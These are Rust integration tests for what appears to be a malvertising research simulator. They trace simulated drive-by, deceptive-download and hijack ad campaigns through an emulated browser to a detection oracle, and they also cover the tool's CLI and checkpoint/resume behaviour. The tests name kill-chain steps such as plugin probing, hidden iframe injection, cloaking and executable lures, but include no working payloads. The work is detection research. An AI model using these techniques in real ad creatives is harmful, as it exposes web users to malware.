    // Slot volume plausible: ~19M loads/90 days means ~100k slots.
    let slots = web.total_ad_slots();
    assert!(slots > 80_000, "only {slots} slots at paper scale");
}

#[test]
fn paper_scale_world_wires() {
    // Full world assembly (network routing table with every origin server).
    let world = StudyWorld::build(
        2014,
        &WebConfig::paper_scale(),
        &AdWorldConfig::default(),
        1.0,
        90,
    );
    // 43k publishers + 40 networks + campaign hosts + widget host.
    assert!(world.network.server_count() > 43_000);
    for site in world.web.sites.iter().step_by(997) {
        assert!(world.network.resolves(&site.domain));
    }
}
