//! Ad-lifecycle integration: each campaign type traced from the serve
//! endpoint through the emulated browser to the oracle's verdict.

use malvertising::adnet::{AdWorldConfig, CampaignBehavior};
use malvertising::browser::BehaviorEvent;
use malvertising::core::world::StudyWorld;
use malvertising::oracle::{IncidentType, Oracle};
use malvertising::scanner::PayloadKind;
use malvertising::types::{AdNetworkId, SimTime};
use malvertising::websim::WebConfig;
use std::sync::OnceLock;

fn world() -> &'static StudyWorld {
    static CELL: OnceLock<StudyWorld> = OnceLock::new();
    CELL.get_or_init(|| {
        StudyWorld::build(
            4242,
            &WebConfig {
                ranking_universe: 10_000,
                top_slice: 10,
                bottom_slice: 10,
                random_slice: 10,
                security_feed: 5,
                ad_network_count: 40,
                sandbox_adoption: 0.0,
            },
            &AdWorldConfig::default(),
            1.0,
            30,
        )
    })
}

fn oracle(w: &StudyWorld) -> Oracle<'_> {
    Oracle::builder(&w.network, &w.blacklists, &w.scanner)
        .seeds(w.tree)
        .build()
}

/// Finds a served visit whose traffic touches a campaign matching the
/// predicate, scanning networks, days, and slots.
fn find_visit(
    w: &StudyWorld,
    oracle: &Oracle<'_>,
    predicate: impl Fn(&CampaignBehavior) -> bool,
) -> Option<(malvertising::browser::PageVisit, SimTime)> {
    let markers: Vec<String> = w
        .ads
        .campaigns()
        .iter()
        .filter(|c| predicate(&c.behavior))
        .flat_map(|c| c.controlled_domains())
        .map(|d| d.to_string())
        .collect();
    for network in 0..w.ads.networks().len() as u32 {
        for day in 20..28u32 {
            for slot in 0..3usize {
                let time = SimTime::at(day, 0);
                let url = w.ads.serve_url(AdNetworkId(network), 7_000 + slot as u32, slot);
                let visit = oracle.honeyclient_visit(&url, time);
                let hit = visit
                    .capture
                    .hosts()
                    .iter()
                    .any(|h| markers.contains(&h.to_string()))
                    || markers.iter().any(|m| visit.top.raw_html.contains(m));
                if hit {
                    return Some((visit, time));
                }
            }
        }
    }
    None
}

#[test]
fn driveby_lifecycle_probe_inject_download() {
    let w = world();
    let o = oracle(w);
    let (visit, _) = find_visit(w, &o, |b| {
        matches!(b, CampaignBehavior::DriveBy { .. })
    })
    .expect("drive-by ad served");
    // Either the cloak bounced (navigation event) or the full kill chain
    // ran: plugin probe, hidden iframe, download.
    let probed = visit
        .events
        .iter()
        .any(|e| matches!(e, BehaviorEvent::PluginEnumeration { .. }));
    let bounced = visit
        .events
        .iter()
        .any(|e| matches!(e, BehaviorEvent::FrameNavigation { .. }));
    let embedded_flash = visit
        .downloads
        .iter()
        .any(|d| {
            malvertising::scanner::Payload::sniff_kind(&d.bytes) == Some(PayloadKind::Flash)
        });
    assert!(
        probed || bounced || embedded_flash,
        "drive-by creative did nothing observable: {:?}",
        visit.events
    );
}

#[test]
fn deceptive_lifecycle_countdown_download_scan() {
    let w = world();
    let o = oracle(w);
    let (visit, time) = find_visit(w, &o, |b| {
        matches!(b, CampaignBehavior::Deceptive { .. })
    })
    .expect("deceptive ad served");
    // The countdown runs on timers and ends in a navigation to the payload.
    assert!(visit
        .events
        .iter()
        .any(|e| matches!(e, BehaviorEvent::TimerScheduled { .. })));
    assert!(
        !visit.downloads.is_empty(),
        "deceptive ad must download its installer"
    );
    let exe = visit
        .downloads
        .iter()
        .find(|d| {
            malvertising::scanner::Payload::sniff_kind(&d.bytes)
                == Some(PayloadKind::Executable)
        })
        .expect("an executable download");
    // The filename is one of the lure names.
    let name = exe.filename.as_deref().unwrap_or("");
    assert!(
        name.ends_with(".exe"),
        "installer filename {name:?} not an exe"
    );
    // The oracle notices — via blacklists, the scanner, or the model layer.
    let incidents = o.classify_visit(&visit, time);
    assert!(
        !incidents.is_empty(),
        "deceptive ad escaped every detector"
    );
}

#[test]
fn hijack_lifecycle_top_location() {
    let w = world();
    let o = oracle(w);
    let (visit, time) = find_visit(w, &o, |b| {
        matches!(b, CampaignBehavior::Hijack { .. })
    })
    .expect("hijack ad served");
    assert!(visit
        .events
        .iter()
        .any(|e| matches!(e, BehaviorEvent::TopLocationHijack { .. })));
    let incidents = o.classify_visit(&visit, time);
    assert!(incidents
        .iter()
        .any(|i| i.incident_type == IncidentType::SuspiciousRedirections
            || i.incident_type == IncidentType::Blacklists));
}

#[test]
fn benign_lifecycle_stays_clean() {
    let w = world();
    let o = oracle(w);
    // Benign creatives must come out of a major network's direct fill most
    // of the time; scan 12 serves and require a clean majority.
    let mut clean = 0;
    let mut total = 0;
    for slot in 0..12usize {
        let url = w.ads.serve_url(AdNetworkId(0), 9_000 + slot as u32, 0);
        let time = SimTime::at(2, 1);
        let incidents = o.classify(&url, time);
        total += 1;
        if incidents.is_empty() {
            clean += 1;
        }
    }
    assert!(
        clean * 3 >= total * 2,
        "too many major-network serves flagged: {clean}/{total} clean"
    );
}

#[test]
fn patched_user_is_not_exploited() {
    // The exploit probe finds nothing on a fully patched profile: plugins
    // are enumerated, but no hidden iframe is injected and nothing
    // downloads. (The emulated browser runs the same creative either way —
    // only `navigator.plugins` versions differ.)
    use malvertising::browser::{Browser, BrowserLimits, Personality};
    let w = world();
    let o = oracle(w);
    let Some((victim_visit, time)) = find_visit(w, &o, |b| {
        matches!(
            b,
            CampaignBehavior::DriveBy {
                cloak: malvertising::adnet::campaign::CloakStyle::None,
                ..
            }
        )
    }) else {
        return; // no uncloaked drive-by servable at this seed
    };
    // Only meaningful when the victim visit actually ran the kill chain.
    let victim_injected = victim_visit
        .events
        .iter()
        .any(|e| matches!(e, BehaviorEvent::IframeInjection { .. }));
    if !victim_injected {
        return;
    }
    let url = victim_visit.top.requested_url.clone();
    let patched = Browser::new(
        &w.network,
        Personality::patched_user(),
        BrowserLimits::default(),
        w.tree,
    );
    let patched_visit = patched.visit(&url, time);
    assert!(
        patched_visit
            .events
            .iter()
            .any(|e| matches!(e, BehaviorEvent::PluginEnumeration { .. })),
        "probe still runs on patched profiles"
    );
    assert!(
        !patched_visit
            .events
            .iter()
            .any(|e| matches!(e, BehaviorEvent::IframeInjection { .. })),
        "patched profile must not be exploited"
    );
    assert!(patched_visit.downloads.is_empty());
}

#[test]
fn flash_vector_delivers_swf() {
    let w = world();
    let o = oracle(w);
    let found = find_visit(w, &o, |b| {
        matches!(b, CampaignBehavior::DriveBy { .. })
    });
    // At least some drive-by exists; flash-vector presence depends on the
    // seed, so only assert when one of the campaigns uses it.
    let any_flash_campaign = w
        .ads
        .campaigns()
        .iter()
        .any(|c| c.uses_flash_exploit);
    if !any_flash_campaign {
        return;
    }
    assert!(found.is_some());
}
