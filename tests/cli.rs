//! CLI integration tests: the `malvert` binary's commands behave.

use std::process::Command;

fn malvert() -> Command {
    Command::new(env!("CARGO_BIN_EXE_malvert"))
}

#[test]
fn help_prints_usage() {
    let out = malvert().arg("help").output().expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("malvert run"));
    assert!(text.contains("malvert scan"));
    assert!(text.contains("--checkpoint DIR"));
    assert!(text.contains("--resume DIR"));
}

#[test]
fn unknown_command_fails() {
    let out = malvert().arg("frobnicate").output().expect("binary runs");
    assert!(!out.status.success());
}

#[test]
fn bad_flag_fails_cleanly() {
    let out = malvert()
        .args(["world", "--seed"])
        .output()
        .expect("binary runs");
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("needs a value"));
}

#[test]
fn world_inventory_prints() {
    let out = malvert()
        .args(["world", "--seed", "5"])
        .output()
        .expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("ad networks: 40"));
    assert!(text.contains("hotspot"));
    assert!(text.contains("49 blacklist feeds"));
    assert!(text.contains("51 scan engines"));
}

#[test]
fn easylist_generates_rules() {
    let out = malvert()
        .args(["easylist", "--seed", "5"])
        .output()
        .expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.starts_with("[Adblock Plus 2.0]"));
    assert!(text.lines().filter(|l| l.starts_with("||")).count() >= 40);
}

#[test]
fn creative_dumps_markup() {
    // Campaign 0 is benign (the generator emits benign campaigns first).
    let out = malvert()
        .args(["creative", "--seed", "5", "--campaign", "0"])
        .output()
        .expect("binary runs");
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("<html>"));
}

#[test]
fn creative_out_of_range_fails() {
    let out = malvert()
        .args(["creative", "--seed", "5", "--campaign", "99999"])
        .output()
        .expect("binary runs");
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("out of range"));
}

#[test]
fn creative_deobfuscation_unwraps_layers() {
    // Find a drive-by campaign id deterministically: campaigns are
    // generated benign-first, so malicious ids start at benign_count (520).
    // Scan a few ids for an obfuscated one.
    for id in 520..553 {
        let out = malvert()
            .args([
                "creative",
                "--seed",
                "5",
                "--campaign",
                &id.to_string(),
                "--deobfuscate",
                "yes",
            ])
            .output()
            .expect("binary runs");
        assert!(out.status.success());
        let err = String::from_utf8_lossy(&out.stderr);
        if err.contains("deobfuscation trace") {
            // The decoded payload must contain the probe logic that the
            // markup hid behind eval layers.
            assert!(
                err.contains("navigator.plugins")
                    || err.contains("window.location")
                    || err.contains("top.location")
                    || err.contains("document.write"),
                "trace lacks recognisable payload: {err}"
            );
            return;
        }
    }
    panic!("no obfuscated creative found among malicious campaigns");
}

#[test]
fn trace_summarizes_an_event_stream() {
    // A hand-written three-event stream: one stage span, one classify-ad
    // span, one incident with blacklist provenance.
    let events = concat!(
        r#"{"id":1,"unit":0,"seq":0,"kind":"crawl","name":"crawl","wall":{"ts_us":0,"dur_us":5000,"worker":0}}"#,
        "\n",
        r#"{"id":2,"unit":10,"seq":0,"kind":"classify_ad","name":"http://ad.example/slot","wall":{"ts_us":100,"dur_us":2000,"worker":1}}"#,
        "\n",
        r#"{"id":3,"unit":10,"seq":1,"kind":"incident","name":"[Blacklists] evil.biz listed by 9 feeds","provenance":{"component":"blacklists","chain_hop":1,"matched_feeds":["f1","f2"]},"wall":{"ts_us":150,"worker":1}}"#,
        "\n",
    );
    let path = std::env::temp_dir().join(format!("malvert-test-{}.jsonl", std::process::id()));
    std::fs::write(&path, events).expect("fixture written");
    let out = malvert()
        .args(["trace", path.to_str().unwrap(), "--top", "5"])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("trace: 3 events (2 spans, 1 incident records)"),
        "{text}"
    );
    assert!(text.contains("slowest spans:"));
    assert!(text.contains("per-worker skew"));
    assert!(
        text.contains("component blacklists, hop 1, feeds[2]"),
        "{text}"
    );
    let _ = std::fs::remove_file(&path);
}

#[test]
fn run_with_metrics_then_health_reports() {
    // End-to-end over the run-health layer: a metered run writes one
    // JSONL sample per shard boundary, and `malvert health` distills it.
    let dir = std::env::temp_dir().join(format!("malvert-test-{}-metrics", std::process::id()));
    let out = malvert()
        .args([
            "run",
            "--seed",
            "2026",
            "--days",
            "1",
            "--refreshes",
            "1",
            "--workers",
            "4",
            "--shard",
            "128",
            "--progress",
            "--metrics-out",
            dir.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let jsonl = std::fs::read_to_string(dir.join("metrics.jsonl")).expect("metrics written");
    let mut stages = std::collections::BTreeSet::new();
    for line in jsonl.lines() {
        let sample: serde_json::Value = serde_json::from_str(line).expect("valid JSONL sample");
        assert!(sample["det"]["shard"].as_u64().unwrap() >= 1);
        assert!(
            sample["wall"]["ts_us"].as_u64().is_some(),
            "live sample lacks wall envelope"
        );
        stages.insert(sample["det"]["stage"].as_str().unwrap().to_string());
    }
    assert!(
        stages.contains("crawl") && stages.contains("classify"),
        "{stages:?}"
    );

    // The heartbeat rode stderr during the run.
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("crawl"), "no heartbeat on stderr: {err}");

    // `health` accepts the directory and prints per-stage digests.
    let out = malvert()
        .args(["health", dir.to_str().unwrap()])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("[crawl]"), "{text}");
    assert!(text.contains("[classify]"), "{text}");
    assert!(text.contains("p50"), "{text}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn health_without_a_path_fails() {
    let out = malvert().arg("health").output().expect("binary runs");
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("METRICS.JSONL"));
}

#[test]
fn trace_without_a_path_fails() {
    let out = malvert().arg("trace").output().expect("binary runs");
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("EVENTS.JSONL"));
}

#[test]
fn bench_json_writes_machine_readable_reports() {
    let out_path =
        std::env::temp_dir().join(format!("malvert-test-{}-bench.json", std::process::id()));
    let adscript_path =
        std::env::temp_dir().join(format!("malvert-test-{}-adscript.json", std::process::id()));
    let out = malvert()
        .args([
            "bench-json",
            "--out",
            out_path.to_str().unwrap(),
            "--adscript-out",
            adscript_path.to_str().unwrap(),
            "--urls",
            "20",
            "--iters",
            "2",
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let json = std::fs::read_to_string(&out_path).expect("report written");
    let parsed: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
    assert_eq!(parsed["bench"], "filterlist");
    let groups = parsed["groups"].as_array().expect("groups array");
    assert_eq!(groups.len(), 3, "one group per rule-list size");
    for group in groups {
        assert!(group["rules"].as_u64().is_some());
        assert!(group["indexed_ns_per_url"].as_f64().unwrap() > 0.0);
        assert!(group["naive_ns_per_url"].as_f64().unwrap() > 0.0);
        assert!(group["speedup"].as_f64().unwrap() > 0.0);
    }
    let _ = std::fs::remove_file(&out_path);

    let json = std::fs::read_to_string(&adscript_path).expect("adscript report written");
    let parsed: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
    assert_eq!(parsed["bench"], "adscript");
    assert!(parsed["cold_ns_per_script"].as_f64().unwrap() > 0.0);
    assert!(parsed["warm_ns_per_script"].as_f64().unwrap() > 0.0);
    // The exec group times both engines on the same corpus; the parity
    // pass inside bench-json already failed the run if they diverged.
    let exec = &parsed["exec_ns_per_script"];
    assert!(exec["tree_walk"]["warm"].as_f64().unwrap() > 0.0);
    assert!(exec["vm"]["warm"].as_f64().unwrap() > 0.0);
    assert!(exec["vm_speedup"]["warm"].as_f64().unwrap() > 0.0);
    let counters = &exec["vm_counters"];
    assert!(counters["dispatches"].as_u64().unwrap() > 0);
    assert!(counters["ic_hit_rate"].as_f64().unwrap() > 0.9);
    // The packed-creative corpus is shape-monomorphic: each script mints
    // one state-object layout (4 transitions) and every subsequent
    // property access in the hot loop is a (shape, slot) cache hit.
    assert!(counters["shape_hits"].as_u64().unwrap() > 0);
    assert!(counters["shape_transitions"].as_u64().unwrap() > 0);
    let shape_rate = counters["shape_hit_rate"].as_f64().unwrap();
    assert!(shape_rate > 0.1 && shape_rate <= 1.0);
    // Skipping the parser must never be slower than running it; the ≥5x
    // bar is asserted by the Criterion bench at stable iteration counts,
    // not by this two-iteration smoke run.
    assert!(parsed["speedup"].as_f64().unwrap() > 1.0);
    // Warm-up pass misses once per script; every timed lookup hits.
    let cache = &parsed["cache"];
    assert_eq!(cache["misses"].as_u64().unwrap(), 32);
    assert_eq!(cache["hits"].as_u64().unwrap(), 64);
    assert!(cache["hit_rate"].as_f64().unwrap() > 0.5);
    let _ = std::fs::remove_file(&adscript_path);
}

#[test]
fn bench_json_study_out_times_the_pipeline() {
    let out_path =
        std::env::temp_dir().join(format!("malvert-test-{}-bench2.json", std::process::id()));
    let adscript_path = std::env::temp_dir().join(format!(
        "malvert-test-{}-adscript2.json",
        std::process::id()
    ));
    let study_path =
        std::env::temp_dir().join(format!("malvert-test-{}-study.json", std::process::id()));
    let out = malvert()
        .args([
            "bench-json",
            "--out",
            out_path.to_str().unwrap(),
            "--adscript-out",
            adscript_path.to_str().unwrap(),
            "--study-out",
            study_path.to_str().unwrap(),
            "--urls",
            "5",
            "--iters",
            "1",
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let json = std::fs::read_to_string(&study_path).expect("study report written");
    let parsed: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
    assert_eq!(parsed["bench"], "study");
    let workloads = parsed["workloads"].as_array().expect("workloads array");
    assert_eq!(workloads.len(), 2, "one entry per corpus scale");
    for w in workloads {
        assert!(w["name"].as_str().is_some());
        assert!(w["page_loads"].as_u64().unwrap() > 0);
        assert!(w["unique_ads"].as_u64().unwrap() > 0);
        assert!(w["loads_per_sec"].as_f64().unwrap() > 0.0);
    }
    let _ = std::fs::remove_file(&out_path);
    let _ = std::fs::remove_file(&adscript_path);
    let _ = std::fs::remove_file(&study_path);
}

#[test]
fn scan_reports_and_writes_har() {
    let har_path = std::env::temp_dir().join(format!("malvert-test-{}.har", std::process::id()));
    let out = malvert()
        .args([
            "scan",
            "--seed",
            "5",
            "--network",
            "0",
            "--slot",
            "0",
            "--day",
            "3",
            "--har",
            har_path.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("hosts contacted"));
    assert!(text.contains("verdict:"));
    let har = std::fs::read_to_string(&har_path).expect("HAR written");
    let parsed: serde_json::Value = serde_json::from_str(&har).expect("valid JSON");
    assert!(parsed["log"]["entries"].as_array().is_some());
    let _ = std::fs::remove_file(&har_path);
}

#[test]
fn resume_accepts_a_recipe_from_an_older_binary() {
    // Park a tiny checkpointed run at its first shard boundary, then
    // rewrite recipe.json the way an older binary recorded it — before
    // the shard / checkpoint_every / engine fields existed. `--resume`
    // must fill the missing fields from the defaults instead of
    // rejecting the document.
    let dir = std::env::temp_dir().join(format!("malvert-test-{}-oldrecipe", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let out = malvert()
        .args([
            "run",
            "--seed",
            "7",
            "--days",
            "1",
            "--refreshes",
            "1",
            "--workers",
            "2",
            "--shard",
            "128",
            "--checkpoint",
            dir.to_str().unwrap(),
            "--abort-after-shards",
            "1",
        ])
        .output()
        .expect("binary runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("parked"),
        "seed run did not park at a checkpoint boundary"
    );

    std::fs::write(
        dir.join("recipe.json"),
        r#"{
  "seed": 7,
  "days": 1,
  "refreshes": 1,
  "workers": 2,
  "faults": "none"
}"#,
    )
    .expect("old-format recipe written");

    // Resume must adopt the recipe's values and default the rest. The
    // shard size is given explicitly because the old recipe cannot carry
    // it and the parked snapshot was cut at a 128-job boundary.
    let out = malvert()
        .args(["run", "--resume", dir.to_str().unwrap(), "--shard", "128"])
        .output()
        .expect("binary runs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(
        err.contains("running study: seed 7") && err.contains("(resumed)"),
        "resume did not adopt the old recipe: {err}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn serve_daemon_answers_queries_and_survives_kill_resume() {
    // End-to-end service mode: run the daemon with a query file, park it
    // at a shard boundary, resume to completion, and check the final
    // deterministic state matches an uninterrupted control run.
    let base = std::env::temp_dir().join(format!("malvert-test-{}-serve", std::process::id()));
    let _ = std::fs::remove_dir_all(&base);
    std::fs::create_dir_all(&base).expect("temp dir");
    let queries = base.join("queries.txt");
    std::fs::write(&queries, "1 http://probe.example/never-served\n").expect("queries written");
    let serve_args = |extra: &[&str]| {
        let mut args = vec![
            "serve".to_string(),
            "--seed".into(),
            "9".into(),
            "--impressions".into(),
            "256".into(),
            "--per-day".into(),
            "64".into(),
            "--shard".into(),
            "64".into(),
            "--ttl-days".into(),
            "2".into(),
            "--workers".into(),
            "2".into(),
        ];
        args.extend(extra.iter().map(|s| s.to_string()));
        args
    };

    // Control: uninterrupted run with a query.
    let control_state = base.join("control.json");
    let out = malvert()
        .args(serve_args(&[
            "--queries",
            queries.to_str().unwrap(),
            "--state-out",
            control_state.to_str().unwrap(),
        ]))
        .output()
        .expect("binary runs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("serve complete"), "missing summary: {err}");
    let answer = String::from_utf8_lossy(&out.stdout);
    assert!(
        answer.contains("\"known\":false") && answer.contains("probe.example"),
        "query was not answered as JSON: {answer}"
    );

    // Interrupted run: park at the first boundary, then resume.
    let ckpt = base.join("ckpt");
    let out = malvert()
        .args(serve_args(&[
            "--checkpoint",
            ckpt.to_str().unwrap(),
            "--abort-after-shards",
            "1",
        ]))
        .output()
        .expect("binary runs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("serve parked"), "daemon did not park: {err}");

    // Resume needs no flags beyond the directory: the recorded
    // serve-recipe.json reproduces the invocation.
    let resumed_state = base.join("resumed.json");
    let out = malvert()
        .args([
            "serve",
            "--resume",
            ckpt.to_str().unwrap(),
            "--state-out",
            resumed_state.to_str().unwrap(),
        ])
        .output()
        .expect("binary runs");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("(resumed)"), "recipe not adopted: {err}");

    let control = std::fs::read_to_string(&control_state).expect("control state written");
    let resumed = std::fs::read_to_string(&resumed_state).expect("resumed state written");
    assert_eq!(control, resumed, "kill/resume diverged from control");
    let _ = std::fs::remove_dir_all(&base);
}
