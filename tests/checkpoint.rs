//! Checkpoint/resume integration: a study killed at any shard boundary and
//! resumed from its snapshot produces byte-identical results to an
//! uninterrupted run — at any worker count, any shard size, under heavy
//! fault injection — and checkpointing itself never perturbs the output.

use malvertising::core::study::{Study, StudyConfig, StudyResults};
use malvertising::core::{Phase, StudySnapshot};
use malvertising::crawler::CrawlConfig;
use malvertising::engine::SnapshotStore;
use malvertising::net::FaultProfile;
use malvertising::types::CrawlSchedule;
use malvertising::websim::WebConfig;
use proptest::prelude::*;
use std::path::PathBuf;

fn config(seed: u64, workers: usize) -> StudyConfig {
    StudyConfig {
        seed,
        web: WebConfig {
            ranking_universe: 10_000,
            top_slice: 25,
            bottom_slice: 25,
            random_slice: 40,
            security_feed: 15,
            ad_network_count: 40,
            sandbox_adoption: 0.0,
        },
        crawl: CrawlConfig {
            schedule: CrawlSchedule::scaled(2, 1),
            workers,
            ..Default::default()
        },
        ..StudyConfig::default()
    }
}

/// A fresh per-test checkpoint directory under the system temp dir.
fn temp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("malvert-ckpt-{}-{tag}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// The full deterministic payload of a run: the serialized corpus and the
/// timing-stripped run summary.
fn payload(results: &StudyResults) -> (String, String) {
    (
        serde_json::to_string(&results.ads).expect("serializable"),
        results.summary().without_timings().to_json(),
    )
}

#[test]
fn checkpointing_never_perturbs_results() {
    // Snapshot writes are pure observation: a checkpointed-but-never-killed
    // run matches a plain run byte for byte.
    let plain = Study::builder()
        .config(config(31337, 8))
        .build()
        .expect("no resume requested")
        .run();
    let dir = temp_dir("uninterrupted");
    let checkpointed = Study::builder()
        .config(config(31337, 8))
        .checkpoint(&dir)
        .shard_size(64)
        .build()
        .expect("no resume requested")
        .run();
    assert_eq!(payload(&plain), payload(&checkpointed));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn kill_and_resume_matrix_byte_identical_under_heavy_faults() {
    // The acceptance matrix: at workers 1 and 8, under heavy fault
    // injection, a run parked at EVERY shard boundary and resumed each time
    // from disk converges to the exact bytes of the uninterrupted run —
    // and the parks cover both pipeline phases.
    for workers in [1usize, 8] {
        let mut cfg = config(90210, workers);
        cfg.faults = FaultProfile::named("heavy");
        let baseline = Study::builder()
            .config(cfg.clone())
            .build()
            .expect("no resume requested")
            .run();
        assert!(
            baseline.unique_ads() > 48,
            "corpus too small ({} unique ads) to exercise classify-phase parking",
            baseline.unique_ads()
        );

        let dir = temp_dir(&format!("matrix-w{workers}"));
        let (mut saw_crawl, mut saw_classify) = (false, false);
        let mut parked = Study::builder()
            .config(cfg.clone())
            .checkpoint(&dir)
            .shard_size(48)
            .abort_after_shards(1)
            .build()
            .expect("no resume requested")
            .try_run();
        let mut legs = 0u32;
        let resumed = loop {
            match parked {
                Some(results) => break results,
                None => {
                    let store = SnapshotStore::open(&dir).expect("checkpoint dir exists");
                    let snap = StudySnapshot::load(&store)
                        .expect("snapshot readable")
                        .expect("parked run left a snapshot");
                    match snap.phase {
                        Phase::Crawl => saw_crawl = true,
                        Phase::Classify => saw_classify = true,
                    }
                    legs += 1;
                    assert!(legs < 200, "resume loop did not converge");
                    parked = Study::builder()
                        .config(cfg.clone())
                        .resume(&dir)
                        .shard_size(48)
                        .abort_after_shards(1)
                        .build()
                        .expect("snapshot validates against the same config")
                        .try_run();
                }
            }
        };
        assert!(legs > 0, "the abortable run never parked");
        assert!(saw_crawl, "no park landed in the crawl phase");
        assert!(saw_classify, "no park landed in the classify phase");
        assert_eq!(
            payload(&baseline),
            payload(&resumed),
            "killed-and-resumed run diverges at workers={workers}"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }
}

#[test]
fn resume_mid_crawl_completes_identically() {
    // One targeted kill: park partway through the crawl, verify the
    // snapshot really is mid-crawl, then resume straight to completion.
    let baseline = Study::builder()
        .config(config(777, 4))
        .build()
        .expect("no resume requested")
        .run();
    let dir = temp_dir("mid-crawl");
    let parked = Study::builder()
        .config(config(777, 4))
        .checkpoint(&dir)
        .shard_size(64)
        .abort_after_shards(2)
        .build()
        .expect("no resume requested")
        .try_run();
    assert!(parked.is_none(), "the run should have parked mid-crawl");
    let store = SnapshotStore::open(&dir).expect("checkpoint dir exists");
    let snap = StudySnapshot::load(&store)
        .expect("snapshot readable")
        .expect("parked run left a snapshot");
    assert_eq!(snap.phase, Phase::Crawl);
    assert!(snap.next_job > 0, "snapshot recorded no progress");
    let resumed = Study::builder()
        .config(config(777, 4))
        .resume(&dir)
        .build()
        .expect("snapshot validates against the same config")
        .try_run()
        .expect("no abort requested on resume");
    assert_eq!(payload(&baseline), payload(&resumed));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn resume_rejects_a_different_config() {
    let dir = temp_dir("wrong-config");
    let parked = Study::builder()
        .config(config(1234, 2))
        .checkpoint(&dir)
        .shard_size(64)
        .abort_after_shards(1)
        .build()
        .expect("no resume requested")
        .try_run();
    assert!(parked.is_none());
    // Same directory, different seed: the snapshot must not validate.
    let err = Study::builder()
        .config(config(4321, 2))
        .resume(&dir)
        .build();
    assert!(err.is_err(), "a foreign snapshot was accepted");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn shard_size_invisible_in_results() {
    // The shard size (and the snapshot cadence) are pure scheduling knobs:
    // a tiny shard with sparse snapshots, a mid shard, and one
    // larger-than-the-whole-run shard all produce the plain run's bytes.
    let plain = Study::builder()
        .config(config(2718, 8))
        .build()
        .expect("no resume requested")
        .run();
    let base = payload(&plain);
    for (shard, every) in [(7usize, 10u64), (64, 1), (10_000, 1)] {
        let dir = temp_dir(&format!("shard-{shard}"));
        let run = Study::builder()
            .config(config(2718, 8))
            .checkpoint(&dir)
            .shard_size(shard)
            .checkpoint_every(every)
            .build()
            .expect("no resume requested")
            .run();
        assert_eq!(
            base,
            payload(&run),
            "results diverge at shard_size={shard}, checkpoint_every={every}"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// Checkpoint prefix + resume == full run, for arbitrary seeds, worker
    /// counts, shard sizes, and kill points.
    #[test]
    fn prefix_plus_resume_equals_full_run(
        seed in 1u64..500,
        workers in 1usize..9,
        shard in prop_oneof![Just(32usize), Just(48), Just(96)],
        abort in 1u64..6,
    ) {
        let full = Study::builder()
            .config(config(seed, workers))
            .build()
            .expect("no resume requested")
            .run();
        let dir = temp_dir(&format!("prop-{seed}-{workers}-{shard}-{abort}"));
        let mut parked = Study::builder()
            .config(config(seed, workers))
            .checkpoint(&dir)
            .shard_size(shard)
            .abort_after_shards(abort)
            .build()
            .expect("no resume requested")
            .try_run();
        // Resume without an abort hook finishes the run in one more leg
        // (the prefix may already have been the whole run).
        if parked.is_none() {
            parked = Study::builder()
                .config(config(seed, workers))
                .resume(&dir)
                .shard_size(shard)
                .build()
                .expect("snapshot validates against the same config")
                .try_run();
        }
        let resumed = parked.expect("no abort requested on resume");
        prop_assert_eq!(payload(&full), payload(&resumed));
        let _ = std::fs::remove_dir_all(&dir);
    }
}
