//! Trace subsystem integration: a traced run covers the whole pipeline,
//! its events join to the classified corpus, incident provenance carries
//! real evidence, and the deterministic payload is byte-identical across
//! worker counts.

use malvertising::core::study::{Study, StudyConfig, StudyResults};
use malvertising::crawler::CrawlConfig;
